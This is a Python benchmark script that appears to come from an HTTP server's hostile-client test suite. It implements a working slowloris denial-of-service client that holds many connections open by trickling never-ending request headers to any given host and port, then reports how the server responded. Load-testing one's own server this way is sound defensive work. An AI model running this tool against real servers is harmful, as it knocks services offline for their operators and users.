"""A slowloris client: many connections that each trickle a request head
that never ends, one header line every INTERVAL seconds, as the attack does
to hold a server's connection slots.

    python bench/slowloris.py HOST PORT CONNECTIONS [--interval S] [--duration S]

Connects at most WINDOW at a time (below a listen backlog, so no SYN is
dropped and every connection is really opened), then keeps every open one
trickling for DURATION seconds. Prints "connected N" on one line once all
are open (or as many as could be), then at the end one JSON object:

    opened      connections established
    refused     connect() failed (ECONNREFUSED, EMFILE on our side, timeout)
    closed      connections the server closed (end-of-file or reset)
    answered    of those, how many got bytes first (a 408, say)
    still_open  connections the server kept until the end
    closed_after  seconds from a connection's first byte to its close:
                  min, median, max (null when none closed)

Used by the hostile-client tests (tests/python/test_hostile_clients.py) and
the peer comparison (bench/hostile.py). It runs in a process of its own so
that its work never competes with a latency measurement for a GIL.
"""

from __future__ import annotations

import argparse
import errno
import json
import resource
import selectors
import socket
import statistics
import sys
import time

WINDOW = 256
FIRST = b"GET /slow HTTP/1.1\r\nHost: slowloris\r\n"
LINE = b"X-a: b\r\n"


class Slow:
    __slots__ = ("answered", "closed", "first", "sock")

    def __init__(self, sock: socket.socket) -> None:
        self.sock = sock
        self.first = 0.0  # when its first byte went out
        self.closed = 0.0
        self.answered = False


def lift_nofile(want: int) -> None:
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    target = want if hard == resource.RLIM_INFINITY else min(want, hard)
    if target > soft:
        resource.setrlimit(resource.RLIMIT_NOFILE, (target, hard))


def open_all(host: str, port: int, count: int) -> tuple[list[Slow], int]:
    """Connects `count` sockets, WINDOW in flight; each sends FIRST as soon
    as it is connected. Returns the open ones and how many failed."""
    sel = selectors.DefaultSelector()
    opened: list[Slow] = []
    refused = started = 0
    deadline = time.monotonic() + 60
    while started < count or sel.get_map():
        while started < count and len(sel.get_map()) < WINDOW:
            started += 1
            s = socket.socket()
            s.setblocking(False)
            try:
                err = s.connect_ex((host, port))
            except OSError:
                s.close()
                refused += 1
                continue
            if err not in (0, errno.EINPROGRESS):
                s.close()
                refused += 1
                continue
            sel.register(s, selectors.EVENT_WRITE)
        if time.monotonic() > deadline:
            break
        for key, _ in sel.select(1.0):
            s = key.fileobj
            sel.unregister(s)
            err = s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
            if err:
                s.close()
                refused += 1
                continue
            slow = Slow(s)
            try:
                s.send(FIRST)
            except OSError:
                s.close()
                refused += 1
                continue
            slow.first = time.monotonic()
            opened.append(slow)
    for key in list(sel.get_map().values()):
        key.fileobj.close()
        refused += 1
    sel.close()
    return opened, refused


def trickle(conns: list[Slow], interval: float, duration: float) -> None:
    """One header line per connection per `interval`, spread evenly over the
    interval; watches for the server closing them meanwhile."""
    sel = selectors.DefaultSelector()
    for c in conns:
        sel.register(c.sock, selectors.EVENT_READ, c)
    end = time.monotonic() + duration
    turn = 0
    live = len(conns)
    step = interval / max(len(conns), 1)
    next_send = time.monotonic()
    while live and time.monotonic() < end:
        timeout = max(0.0, min(next_send, end) - time.monotonic())
        for key, _ in sel.select(timeout):
            live -= note_close(sel, key.data)
        now = time.monotonic()
        while next_send <= now and live:
            c = conns[turn % len(conns)]
            turn += 1
            next_send += step
            if c.closed:
                continue
            try:
                c.sock.send(LINE)
            except OSError:
                # A reset: the server closed it; the read side tells when.
                live -= note_close(sel, c)
    sel.close()


def note_close(sel: selectors.BaseSelector, c: Slow) -> int:
    """1 if the server has closed c now (end-of-file or reset), else 0."""
    if c.closed:
        return 0
    try:
        data = c.sock.recv(4096)
    except BlockingIOError:
        return 0
    except OSError:
        data = b""
    if data:
        c.answered = True
        return 0
    c.closed = time.monotonic()
    sel.unregister(c.sock)
    return 1


def summary(conns: list[Slow], refused: int) -> dict:
    closed = [c for c in conns if c.closed]
    after = sorted(c.closed - c.first for c in closed)
    return {
        "opened": len(conns),
        "refused": refused,
        "closed": len(closed),
        "answered": sum(c.answered for c in conns),
        "still_open": len(conns) - len(closed),
        "closed_after": (
            [round(after[0], 3), round(statistics.median(after), 3), round(after[-1], 3)]
            if after
            else None
        ),
    }


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("host")
    ap.add_argument("port", type=int)
    ap.add_argument("connections", type=int)
    ap.add_argument("--interval", type=float, default=1.0, help="seconds between lines")
    ap.add_argument("--duration", type=float, default=30.0, help="seconds to keep trickling")
    args = ap.parse_args(argv)
    lift_nofile(args.connections + 64)
    conns, refused = open_all(args.host, args.port, args.connections)
    print(f"connected {len(conns)}", flush=True)
    trickle(conns, args.interval, args.duration)
    print(json.dumps(summary(conns, refused)), flush=True)
    for c in conns:
        c.sock.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
